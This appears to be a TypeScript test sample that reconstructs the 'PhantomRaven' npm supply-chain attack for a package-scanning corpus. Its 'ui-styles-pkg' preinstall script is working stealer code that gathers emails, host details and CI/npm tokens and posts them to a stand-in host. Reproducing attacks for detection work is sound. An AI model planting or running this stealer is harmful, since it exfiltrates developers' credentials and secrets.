import { defineAttack } from "../attack.ts";
import { smallLibrary } from "../bases.ts";
import { commonScript } from "../guard.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * PhantomRaven, August 2025 to February 2026: more than two hundred names, some of them invented by assistants. The package is
 * empty; a dependency by a plain HTTP address brings the code, whose `preinstall` takes mail addresses, CI and host facts.
 * Reproduced: the package with its address, and what the address served.
 */
export const phantomRaven2025: Sample = defineAttack({
  id: "phantom-raven-2025",
  title: "An empty package whose only dependency is a plain HTTP address",
  group: "new-name",
  trigger: "install",
  judged: [
    { name: "eslint-comments", version: "1.0.2" },
    { name: "ui-styles-pkg", version: "1.0.0" },
  ],
  now: "2025-08-14T10:20:00Z",
  createLines: () => [
    {
      name: "eslint-comments",
      manifest: {
        dependencies: { "ui-styles-pkg": "http://packages.storeartifact.invalid/npm/eslint-comments" },
        repository: undefined,
        homepage: undefined,
        bugs: undefined,
      },
      files: [{ path: "index.js", content: 'console.log("Hello, world!");\n' }],
      publisher: person("npmhell", "npmhell@mail.invalid"),
      releases: [
        ["1.0.0", "2025-08-14T10:00:00Z"],
        ["1.0.2", "2025-08-14T10:12:00Z"],
      ],
    },
    {
      name: "ui-styles-pkg",
      manifest: { scripts: { preinstall: "node index.js" } },
      files: [
        ...smallLibrary("ui-styles-pkg").filter((file) => file.path !== "index.js"),
        { path: "index.js", content: stealer },
      ],
      publisher: person("npmhell", "npmhell@mail.invalid"),
      releases: [["1.0.0", "2025-08-14T10:05:00Z"]],
    },
  ],
});

const stealer = commonScript(String.raw`
const os = require("os");
const fs = require("fs");
const path = require("path");
const { execSync } = require("child_process");
const https = require("https");
function mails() {
  const found = [];
  for (const name of [".gitconfig", ".npmrc"]) {
    const file = path.join(os.homedir(), name);
    if (fs.existsSync(file)) found.push(...(fs.readFileSync(file, "utf8").match(/[\w.+-]+@[\w-]+\.[\w.]+/g) || []));
  }
  try { found.push(execSync("git config --get user.email").toString().trim()); } catch (e) {}
  return found;
}
const data = { mails: mails(), host: os.hostname(), ip: os.networkInterfaces(), node: process.version, cwd: process.cwd(), ci: { github: process.env.GITHUB_TOKEN, gitlab: process.env.CI_JOB_TOKEN, jenkins: process.env.JENKINS_URL, circle: process.env.CIRCLE_TOKEN, npm: process.env.NPM_TOKEN } };
const query = Buffer.from(JSON.stringify(data)).toString("base64");
https.get("https://packages.storeartifact.invalid/jpd.php?data=" + encodeURIComponent(query)).on("error", () => {});
const post = https.request("https://packages.storeartifact.invalid/jpd.php", { method: "POST" });
post.on("error", () => {});
post.end(JSON.stringify(data));
`);
